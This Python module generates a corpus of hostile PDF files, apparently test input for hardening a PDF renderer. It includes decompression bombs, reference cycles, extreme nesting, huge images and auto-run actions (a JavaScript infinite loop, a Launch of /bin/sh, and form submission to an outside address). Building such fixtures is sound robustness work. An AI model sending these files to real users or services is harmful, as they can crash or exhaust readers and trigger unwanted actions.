"""PDF files made to do harm: their trees of objects, the contents of their pages, their boxes, fonts and maps of characters."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Iterator, Sequence


def hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    """Names and contents."""
    yield from _structure()
    yield from _content()
    yield from _values()


def pdf(objects: Sequence[bytes], trailer: bytes = b"/Root 1 0 R", end: bytes | None = None) -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of them."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        out.write(b"%010d 00000 n \n" % place)
    out.write(b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table) if end is None else end)
    return out.getvalue()


def _stream(data: bytes, keys: bytes = b"") -> bytes:
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(data), keys, data)


_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = b"BT /F 12 Tf 72 700 Td (The Parties shall establish a Joint Committee.) Tj ET"


def _one_page(content: bytes, page: bytes = b"", font: bytes = _FONT, extra: Sequence[bytes] = (), box: bytes = b"[0 0 595 842]") -> bytes:
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>>>" % (box, page)
    return pdf([_CATALOG, _PAGES, leaf, content, font, *extra])


def _pictured(picture: bytes) -> bytes:
    """A small page that a picture fills."""
    return _one_page(_stream(b"99 0 0 99 0 0 cm /X Do"), page=b"/XObject<</X 6 0 R>>", extra=[picture], box=b"[0 0 99 99]")


def nested_tilings(depth: int = 2, size: float = 9999) -> bytes:
    """A page of some words under a pattern whose tile is a pattern: a hundred million tiles to draw, each with as many in it."""
    space = b"/Pattern cs /P scn 0 0 %d %d re f"
    keys = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 %d %d]/XStep 1/YStep 1/Resources<<%s>>"
    tiles = []
    for number in range(1, depth + 1):
        inner = space % (9, 9) if number < depth else b"0 0 1 1 re f"
        tiles.append(_stream(inner, keys % (size, size, b"/Pattern<</P %d 0 R>>" % (6 + number) if number < depth else b"")))
    return _one_page(_stream(_WORDS + b" " + space % (595, 842)), page=b"/Pattern<</P 6 0 R>>", extra=tiles)


def many_paths(count: int = 2_000_000) -> bytes:
    """A page of some words and of so many lines that PDFium needs 275 bytes for each; as a file 1/500 of what they are written with."""
    packer = zlib.compressobj(9)
    lines = b"".join(packer.compress(b"0 0 m 9 9 l S " * 10_000) for _ in range(count // 10_000))
    return _one_page(_stream(lines + packer.compress(_WORDS) + packer.flush(), b"/Filter/FlateDecode"))


def _structure() -> Iterator[tuple[str, bytes]]:
    yield "no-pages.pdf", pdf([_CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"])
    yield "no-catalog.pdf", pdf([b"<<>>"])
    yield "catalog-is-itself.pdf", pdf([b"1 0 R"])
    yield "kids-cycle.pdf", pdf([_CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])
    middle = b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"
    yield "kids-cycle-of-two.pdf", pdf([_CATALOG, _PAGES, middle])
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    for count in (b"-1", b"0", b"100000", b"1000000000", b"99999999999999999999", b"(one)"):
        kids = b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % count
        yield f"count-{count.decode().strip('()')}.pdf", pdf([_CATALOG, kids, leaf, _stream(_WORDS), _FONT])
    many = b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)
    yield "pages-100000.pdf", pdf([_CATALOG, many, leaf, _stream(_WORDS), _FONT])
    some = b"<</Type/Pages/Kids[%s]/Count 300>>" % (b"3 0 R " * 300)
    yield "pages-shared-300.pdf", pdf([_CATALOG, some, leaf, _stream(_WORDS), _FONT])
    deep = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 5002)]
    yield "tree-5000-deep.pdf", pdf([_CATALOG, *deep, leaf])
    yield "parent-cycle.pdf", pdf([_CATALOG, _PAGES, b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>", _stream(_WORDS)])
    yield "contents-cycle.pdf", pdf([_CATALOG, _PAGES, leaf, b"[4 0 R 4 0 R]", _FONT])
    yield "contents-10000.pdf", pdf([_CATALOG, _PAGES, leaf, b"[%s]" % (b"6 0 R " * 10_000), _FONT, _stream(_WORDS)])
    yield "length-cycle.pdf", _one_page(b"<</Length 4 0 R>>\nstream\n" + _WORDS + b"\nendstream")
    for length in (b"0", b"5", b"-1", b"999999999", b"99999999999999999999", b"(x)"):
        yield f"length-{length.decode().strip('()')}.pdf", _one_page(b"<</Length %s>>\nstream\n%s\nendstream" % (length, _WORDS))
    sound = _one_page(_stream(_WORDS))
    table = sound.index(b"xref")
    yield "prev-loop.pdf", sound.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % table)
    yield "startxref-0.pdf", sound.replace(b"startxref\n%d" % table, b"startxref\n0")
    yield "startxref-huge.pdf", sound.replace(b"startxref\n%d" % table, b"startxref\n99999999999")
    yield "xref-size-huge.pdf", sound.replace(b"/Size 6", b"/Size 2000000000")
    yield "xref-rows-huge.pdf", sound.replace(b"xref\n0 6", b"xref\n0 2000000000")
    yield "deep-array.pdf", _one_page(_stream(_WORDS), extra=[b"[" * 100_000 + b"]" * 100_000])
    yield "deep-dict.pdf", _one_page(_stream(_WORDS), page=b"/X " + b"<</A" * 20_000 + b" 1" + b">>" * 20_000)
    yield "objstm-cycle.pdf", _one_page(_stream(_WORDS), extra=[_stream(b"6 0 1 0 R", b"/Type/ObjStm/N 1000000/First 4/Extends 6 0 R")])
    labels = b"<</Type/Catalog/Pages 2 0 R/PageLabels<</Kids[1 0 R]/Nums[0 1 0 R]>>>>"
    yield "labels-cycle.pdf", pdf([labels, _PAGES, leaf, _stream(_WORDS), _FONT])
    yield "info-cycle.pdf", pdf([_CATALOG, _PAGES, leaf, _stream(_WORDS), _FONT, b"6 0 R"], b"/Root 1 0 R/Info 6 0 R")
    for name, action in (
        ("javascript", b"/S/JavaScript/JS(while(true){app.alert(1)})"),
        ("launch", b"/S/Launch/F(/bin/sh)"),
        ("uri", b"/S/URI/URI(http://192.0.2.1/x)"),
        ("submit", b"/S/SubmitForm/F(http://192.0.2.1/x)"),
    ):
        catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%s>>/AA<</WC<<%s>>>>>>" % (action, action)
        yield f"action-{name}.pdf", pdf([catalog, _PAGES, leaf, _stream(_WORDS), _FONT])


def _flate(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return _stream(data, b"/Filter[%s]" % (b"/FlateDecode" * times))


def _content() -> Iterator[tuple[str, bytes]]:
    spaces = b" " * 200_000_000
    yield "bomb-content.pdf", _one_page(_flate(spaces))
    yield "bomb-twice.pdf", _one_page(_flate(spaces, 2))
    yield "bomb-of-filters.pdf", _one_page(_stream(zlib.compress(_WORDS), b"/Filter[%s]" % (b"/FlateDecode" * 5000)))
    yield "bomb-text.pdf", _one_page(_flate(b"BT /F 1 Tf 1 1 Td " + b"(words) Tj " * 20_000 + b"ET"))
    yield "bomb-paths.pdf", _one_page(_flate(b"0 0 m 9 9 l S " * 400_000))
    yield "deep-states.pdf", _one_page(_flate(b"q " * 200_000 + _WORDS))
    yield "deep-marks.pdf", _one_page(_flate(b"/P<</MCID 0>>BDC " * 100_000 + _WORDS))
    yield "deep-operands.pdf", _one_page(_flate(b"[" * 100_000 + _WORDS))
    yield "no-end-of-text.pdf", _one_page(_stream(_WORDS[:-2] * 50))
    form = _stream(b"/X Do /X Do " + _WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 6 0 R>>>>")
    yield "form-in-itself.pdf", _one_page(_stream(b"/X Do"), page=b"/XObject<</X 6 0 R>>", extra=[form])
    bush = [
        _stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1))
        for n in range(6, 16)
    ]
    yield "forms-10-to-the-10.pdf", _one_page(_stream(b"/X Do"), page=b"/XObject<</X 6 0 R>>", extra=[*bush, _stream(_WORDS)])
    for name, width, height, bits in (("wide", 2_000_000_000, 1, 8), ("square", 60_000, 60_000, 8), ("one-bit", 200_000, 200_000, 1)):
        keys = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/DeviceGray/Filter/FlateDecode"
        yield f"picture-{name}.pdf", _pictured(_stream(zlib.compress(bytes(1_000_000)), keys % (width, height, bits)))
    for name, filters in (("jpeg", b"DCTDecode"), ("jpeg2000", b"JPXDecode"), ("jbig2", b"JBIG2Decode"), ("fax", b"CCITTFaxDecode")):
        keys = b"/Type/XObject/Subtype/Image/Width 20000/Height 20000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/" + filters
        yield f"picture-{name}.pdf", _pictured(_stream(random.Random(name).randbytes(3000), keys))


def _values() -> Iterator[tuple[str, bytes]]:
    boxes = (b"[0 0 0 0]", b"[0 0 1e9 1e9]", b"[9 9 -9 -9]", b"[0 0 1e300 1e300]", b"[/A(b)]", b"3 0 R", b"[0 0 0.001 90000]")
    for n, box in enumerate(boxes):
        yield f"box-{n}.pdf", _one_page(_stream(_WORDS), box=box)
        picture = _stream(b"\0", b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray")
        yield f"box-picture-{n}.pdf", _one_page(_stream(b"9 0 0 9 0 0 cm /X Do"), page=b"/XObject<</X 6 0 R>>", extra=[picture], box=box)
    sizes = (b"0", b"-12", b"1e30", b"0.0000001")
    for n, size in enumerate(sizes):
        yield f"size-{n}.pdf", _one_page(_stream(_WORDS.replace(b"12 Tf", size + b" Tf")))
    noise = random.Random(3).randbytes(4000)
    described = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>"
    truetype = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/Widths[%s]/FontDescriptor 6 0 R>>"
    yield "font-noise.pdf", _one_page(_stream(_WORDS), font=truetype % (b"500 " * 256), extra=[described, _stream(noise)])
    yield "font-widths.pdf", _one_page(_stream(_WORDS), font=truetype % (b"-99999 1e30 " * 128), extra=[described, _stream(noise)])
    yield "font-is-itself.pdf", _one_page(_stream(_WORDS), font=b"5 0 R")
    mapped = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    ranges = b"begincmap 1 beginbfrange <00000000> <FFFFFFFF> <0000> endbfrange endcmap"
    yield "font-map-of-everything.pdf", _one_page(_stream(_WORDS), font=mapped, extra=[_stream(ranges)])
    yield "font-map-uses-itself.pdf", _one_page(_stream(_WORDS), font=mapped, extra=[_stream(b"/X usecmap", b"/UseCMap 6 0 R")])
    long = b"begincmap 1 beginbfchar <41> <%s> endbfchar endcmap" % (b"0041" * 100_000)
    yield "font-letter-of-100000.pdf", _one_page(_stream(b"BT /F 9 Tf (AAAAAAAA) Tj ET"), font=mapped, extra=[_stream(long)])
    threes = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/Encoding<</Differences[65/a]>>/CharProcs<</a 6 0 R>>"
    threes += b"/FirstChar 65/LastChar 65/Widths[1]/Resources<</Font<</F 5 0 R>>>>>>"
    yield "font-draws-itself.pdf", _one_page(_stream(b"BT /F 9 Tf (A) Tj ET"), font=threes, extra=[_stream(b"BT /F 9 Tf (AA) Tj ET")])
